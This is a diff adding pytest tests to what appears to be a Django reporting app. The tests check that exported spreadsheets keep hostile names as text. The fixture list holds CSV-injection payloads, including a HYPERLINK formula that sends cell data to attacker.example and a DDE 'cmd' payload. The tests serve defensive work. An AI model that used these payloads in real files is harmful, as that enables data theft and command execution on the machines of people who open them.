@@ -36,3 +36,74 @@ def test_bieu06_layout_rows_and_total(world):
     assert [sheet.cell(row=10, column=c).value for c in range(3, 9)] == [6279, 17, 3924, 2338, 0, 6264]
     assert sheet["C10"].font.name == "Times New Roman" and sheet["C10"].font.bold
     assert "C6:G6" in {str(r) for r in sheet.merged_cells.ranges}
+
+
+# OWASP "CSV injection": cells beginning with these are read as formulas by spreadsheet programs.
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile_world(world):
+    world.trade.name, world.power.name = HOSTILE[0], HOSTILE[1]
+    world.trade.save(update_fields=["name"])
+    world.power.save(update_fields=["name"])
+    for version, name in ((world.alcohol, HOSTILE[2]), (world.safety_card, HOSTILE[3])):
+        version.procedure.name = name
+        version.procedure.save(update_fields=["name"])
+    world.agency.name = HOSTILE[4]
+    world.agency.save(update_fields=["name"])
+    day = dt.date(2021, 3, 2)
+    received = dt.datetime(2021, 3, 2, 9, tzinfo=dt.UTC)
+    world.dossier(received=received, due=day + dt.timedelta(days=14), finished=received + dt.timedelta(days=3))
+    world.dossier(received=received, due=day + dt.timedelta(days=14), version=world.safety_card, channel="direct")
+
+
+def _assert_text_kept(sheet, expected: list[str]) -> None:
+    texts = {}
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
+            if isinstance(cell.value, str):
+                assert cell.data_type == "s"
+                texts[cell.value] = cell
+    for name in expected:
+        assert name in texts, name
+        assert texts[name].quotePrefix, name
+    # The figures are still numbers a reader can add up.
+    assert sheet["C11"].data_type == "n" and sheet["C11"].value == 2
+
+
+def test_hostile_names_stay_text_in_the_downloaded_bieu06(world, client):
+    from django.urls import reverse
+
+    from egov.dossiers.tests.factories import make_staff
+    from egov.organisations.roles import Role
+    from egov.organisations.services import roles_sync
+
+    _hostile_world(world)
+    roles_sync(strict=False)
+    client.force_login(make_staff(world.agency, Role.AGENCY_LEADER))
+    response = client.get(reverse("reports:export_xlsx"), {"ky": "custom", "tu": "2021-01-01", "den": "2021-06-06"})
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content))["Biểu 06"]
+    _assert_text_kept(sheet, [HOSTILE[0], HOSTILE[1]])
+
+
+def test_hostile_names_stay_text_in_the_command_bieu06(world, tmp_path):
+    from django.core.management import call_command
+
+    _hostile_world(world)
+    out = tmp_path / "bieu06.xlsx"
+    call_command(
+        "tthc_stats",
+        *("--from", "2021-01-01", "--to", "2021-06-06", "--by", "procedure", "--format", "xlsx", "--out", str(out)),
+        stdout=io.StringIO(),
+    )
+    sheet = load_workbook(out)["Biểu 06"]
+    _assert_text_kept(sheet, [HOSTILE[2], HOSTILE[3]])
